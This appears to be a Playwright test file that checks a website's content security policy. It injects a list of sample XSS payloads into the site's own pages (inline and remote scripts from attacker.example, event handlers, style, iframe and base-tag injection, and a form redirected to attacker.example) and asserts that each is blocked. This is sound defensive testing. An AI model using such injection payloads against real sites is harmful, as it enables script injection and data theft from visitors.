import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { describe, expect, inject, test } from 'vitest';
import { CSP, headerRules, headersOf, overHttp } from '../publish/headers/headerRules';
import { pagePolicy } from '../publish/headers/policy';
import { fileOf } from '../publish/site/pageFiles';
import { browserPerWorker } from './browser/browserPerWorker';
import { contactForm } from './browser/contactForm';
import { watchPolicy } from './browser/policyWatch';
import { mainAddresses } from './browser/publishedPages';

const PHONE = { viewport: { width: 375, height: 700 } };

const tabs = browserPerWorker();

async function open(address: string, prepare?: (page: Page) => Promise<unknown>) {
  const page = await tabs.newPage(PHONE);
  const refused = await watchPolicy(page);
  await prepare?.(page);
  await page.goto(address);
  return { page, refused };
}

// The tests of the contact form, of the portfolio filter and of films watch the policy too.
test('the content security policy blocks nothing on any page while images and fonts load and a visitor opens the menu', async () => {
  const { page, refused } = await open('/');
  for (const address of mainAddresses()) {
    await page.goto(address);
    await page.evaluate(async () => {
      for (const image of document.images) image.loading = 'eager';
      const pictures = [...document.images].map((image) => image.decode());
      await Promise.all([document.fonts.ready, ...pictures]);
    });
    await page.locator('header button[aria-label="Menu"]').click();
    await page.getByRole('navigation', { name: 'Menu principal' }).waitFor();
    expect({ address, refused }).toEqual({ address, refused: [] });
  }
});

/** HTML that an attacker might write into a page, and the directive of the policy that blocks it. */
const ATTACKS: readonly (readonly [directive: string, html: string])[] = [
  ['script-src-elem', '<script>document.title = "attacked"</script>'],
  ['script-src-elem', '<script src="https://attacker.example/a.js"></script>'],
  ['script-src-attr', '<a href="#" id="attacked" onclick="document.title = this.id">a</a>'],
  ['style-src-elem', '<style>body { display: none }</style>'],
  ['style-src-attr', '<p style="display: none">a</p>'],
  ['img-src', '<img alt="" src="https://attacker.example/a.png">'],
  ['frame-src', '<iframe src="https://attacker.example/"></iframe>'],
  ['base-uri', '<base href="https://attacker.example/">'],
];

/** How a host may send the policy. If it sends both, each has the same effect as alone. */
const HOSTS = [
  ['only in the page', { header: false, meta: true }],
  // On a site with the editor, which writes styles, the header does not limit styles; the pages' own policy does.
  ['only in the header, on a site without the editor', { header: true, meta: false }],
] as const;

/** Returns the policy in the header of this site if it is built with `ATELIER=0`. */
function strictHeader(): string {
  const policies = inject('siteAddresses').map((address) =>
    pagePolicy(readFileSync(join(inject('siteFolder'), fileOf(address)), 'utf8')),
  );
  return overHttp(headersOf(headerRules(policies, ''), '/'))[CSP] ?? '';
}

describe.each(HOSTS)('policy against attacks, sent %s', (_where, { header, meta }) => {
  async function attack(address: string) {
    return open(address, (page) =>
      page.route(`**${address}`, async (route) => {
        const response = await route.fetch();
        const { 'content-security-policy': _, ...headers } = response.headers();
        const html = await response.text();
        const attacks = ATTACKS.map(([, text]) => text).join('');
        const attacked = (meta ? html : html.replace(/<meta http-equiv[^>]*>/, '')).replace(
          '</main>',
          `${attacks}</main>`,
        );
        expect(attacked.length).not.toBe(html.length);
        await route.fulfill({
          status: 200,
          body: attacked,
          headers: header ? { ...headers, 'content-security-policy': strictHeader() } : headers,
        });
      }),
    );
  }

  test.each(['/', '/contact'])(
    'the content security policy blocks code that an attacker has put into the page %s',
    async (address) => {
      const { page, refused } = await attack(address);
      await page.locator('#attacked').click();
      for (const [directive] of ATTACKS)
        await expect.poll(() => refused.join()).toContain(`${directive} `);
      expect(await page.title()).not.toBe('attacked');
      expect(await page.locator('body').isVisible()).toBe(true);
      expect(await page.evaluate(() => document.baseURI)).toContain(inject('siteUrl'));
    },
  );

  test('the content security policy blocks strings used as HTML or as script code, and forms that post to another site', async () => {
    const { page, refused } = await attack('/contact');
    const thrown = await page.evaluate(() => {
      const acts = [
        () => {
          document.body.innerHTML = '<p>attacked</p>';
        },
        () => {
          document.createElement('script').text = 'document.title = "attacked"';
        },
        () => setTimeout('document.title = "attacked"'),
      ];
      return acts.map((act) => {
        try {
          act();
          return 'done';
        } catch (error) {
          return error instanceof Error ? error.name : 'unknown';
        }
      });
    });
    expect(thrown).toEqual(['TypeError', 'TypeError', 'TypeError']);
    await contactForm(page).fill();
    await page.evaluate(() => {
      const own = document.querySelector<HTMLFormElement>('main form');
      if (own) own.action = 'https://attacker.example/';
      own?.submit();
    });
    await expect.poll(() => refused.join()).toContain('form-action https://attacker.example');
  });
});

test('the content security policy forbids other sites to show a page in a frame', async () => {
  const page = await tabs.newPage();
  await page.setContent(`<iframe src="${inject('siteUrl')}/contact"></iframe>`);
  await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
});
